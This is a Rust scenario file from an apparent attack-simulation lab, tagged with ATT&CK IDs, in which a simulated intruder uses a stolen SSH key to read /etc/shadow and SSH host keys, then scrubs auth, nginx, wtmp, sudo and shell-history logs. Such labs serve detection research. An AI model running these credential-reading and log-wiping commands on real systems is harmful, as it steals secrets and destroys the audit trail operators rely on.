//! With an administrator's stolen key, secrets are read, and then each log forgets about it line by line.
//!
//! Hard because: the administrator works by the same account and sudo at the same time, and logs are turned over, cut and copied by
//! jobs of the host all the time.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key};
use crate::life::{host_tasks, shop};
use crate::network::get;
use crate::program::user;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shop-3")?;
    let (customers, admin, attacker) = (lab.outsider("customers")?, lab.outsider("admin")?, lab.outsider("attacker")?);
    host.put("/var/log/wtmp", "", 0o664)?;
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    shop::serve(&host, None)?;
    shop::visit(lab, &customers, &host)?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/deploy", user::DEPLOY)])?;
    remote::work_beside(lab, &admin, &host, "deploy")?;
    lab.wait(14..20);
    shop::look_after(lab, &host)?;
    lab.wait(4..8);

    let attack = lab.attack("secrets are read, and the logs forget it")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "deploy", to: &host };
    let from = attacker.address;
    let step = attack.step("a login, and secrets are read", &["T1078.003", "T1003.008", "T1552.004"]);
    step.remote(&host, &attacker);
    get(&attacker, host.address, 80, "/index.php?page=1")?;
    let look = *lab.pick(&["sudo -n cat /etc/shadow", "sudo -n head -30 /etc/shadow", "sudo -n grep root /etc/shadow"]);
    let said = thief.log_in(&format!(
        "{} {look} | wc -l; sudo -n sh -c \"cat /etc/ssh/ssh_host_*_key\" | wc -c",
        step.mark(&host)?
    ))?;
    ensure!(said.lines().count() == 2, "the secrets were not read: {said}");
    drop(step);
    lab.wait(4..9);

    let step = attack.step("lines are taken out of the logs", &["T1070.002"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!(
        "{} sudo -n sed -i /{from}/d /var/log/auth.log; sudo -n sed -i /{from}/d /var/log/nginx/access.log; \
         sudo -n grep -c {from} /var/log/auth.log /var/log/nginx/access.log",
        step.mark(&host)?
    ));
    // It says that there is none by its status.
    ensure!(said.is_err(), "the logs still know: {said:?}");
    drop(step);
    lab.wait(3..6);

    let copy = format!("/run/{}", lab.word(6));
    let step = attack.step("and out of the list of logins", &["T1070.002", "T1070.006"]);
    step.remote(&host, &attacker);
    step.file(&host, &copy);
    step.file(&host, "/var/log/wtmp");
    thief.log_in(&format!(
        "{} sudo -n sh -c \"utmpdump /var/log/wtmp 2>/dev/null | grep -v {from} > {copy}; utmpdump -r < {copy} > /var/log/wtmp 2>/dev/null; \
         rm {copy}; touch -r /var/log/uptime.log /var/log/wtmp /var/log/auth.log\"",
        step.mark(&host)?
    ))?;
    drop(step);
    lab.wait(3..6);

    let step = attack.step("and out of the history", &["T1070.003"]);
    step.remote(&host, &attacker);
    thief.log_in(&format!(
        "{} rm -f ~/.bash_history ~/.lesshst; sudo -n truncate -s 0 /var/log/sudo.log; true",
        step.mark(&host)?
    ))?;
    drop(step);
    lab.wait(8..14);
    Ok(())
}
